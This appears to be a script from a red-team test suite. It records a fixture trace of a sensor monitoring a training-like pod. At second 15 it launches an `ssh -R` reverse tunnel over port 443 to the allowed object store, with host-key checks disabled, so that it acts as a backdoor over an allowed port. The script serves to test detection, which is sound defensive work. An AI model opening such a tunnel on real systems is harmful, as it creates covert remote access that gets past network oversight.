"""Record `examples/traces/recorded-ssh-443.jsonl`: the real sensor, in a pod namespace, for 40 s.

The pod runs a benign training-like workload (a rendezvous listener on 29500 that another pod of the
job connects to, DNS to the cluster resolver, checkpoint uploads to the object store on 443, a
data-loader `sleep`) and, from the 15th second, one attack: a real `ssh -R` to the allowed object
store on 443 (the issue's backdoor over an allowed port). The sensor samples once a second as
`agents/rl-trainer-worker-0`. The recording is a fixture: judging it is deterministic (replay runs
on the samples' own times); this script is how it was made, not something the tests run.

    sudo .venv/bin/python -m tests.redteam.record_trace   # root: it makes the namespaces
"""

from __future__ import annotations

import shutil
import time
from pathlib import Path

from tests.redteam.outside import OBJECT_STORE, PEER_POD, POD_IP
from tests.redteam.test_attacks import TRAINER
from tests.redteam.world import TRAINGUARD, make_world

OUT = Path(__file__).resolve().parents[2] / "examples" / "traces" / "recorded-ssh-443.jsonl"
WORK = Path("/tmp/trainguard-recording")
ATTACK_AT = 15
SECONDS = 40

PEER = f"""
import socket, time
c = socket.socket(); c.bind(("{PEER_POD}", 0)); c.connect(("{POD_IP}", 29500))
while True:
    c.sendall(b"allreduce" * 100); time.sleep(0.5)
"""


def main() -> None:
    shutil.rmtree(WORK, ignore_errors=True)
    WORK.mkdir()
    world = make_world(WORK)
    record = WORK / "recorded.jsonl"
    try:
        world.pod.python(TRAINER)
        world.pod.spawn("sleep", "3600")
        time.sleep(0.5)  # the rendezvous listener is up (a recording script, not a test)
        world.outside.python(PEER)
        start = time.time()
        world.pod.spawn(
            TRAINGUARD, "sensor", "--interval", "1", "--gpu-source", "none", "--pod", "agents/rl-trainer-worker-0",
            "--record", str(record), "--duration", str(SECONDS),
        )  # fmt: skip
        time.sleep(ATTACK_AT)
        opts = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
        world.pod.spawn("ssh", *opts, "-N", "-R", "2222:localhost:22", "-p", "443", OBJECT_STORE)
        print(f"attack at {time.time():.3f}")
        time.sleep(SECONDS - ATTACK_AT + 3 - (time.time() - start - ATTACK_AT))
    finally:
        world.close()
    OUT.write_bytes(record.read_bytes())
    print(f"{OUT}: {len(OUT.read_bytes().splitlines())} samples")


if __name__ == "__main__":
    main()
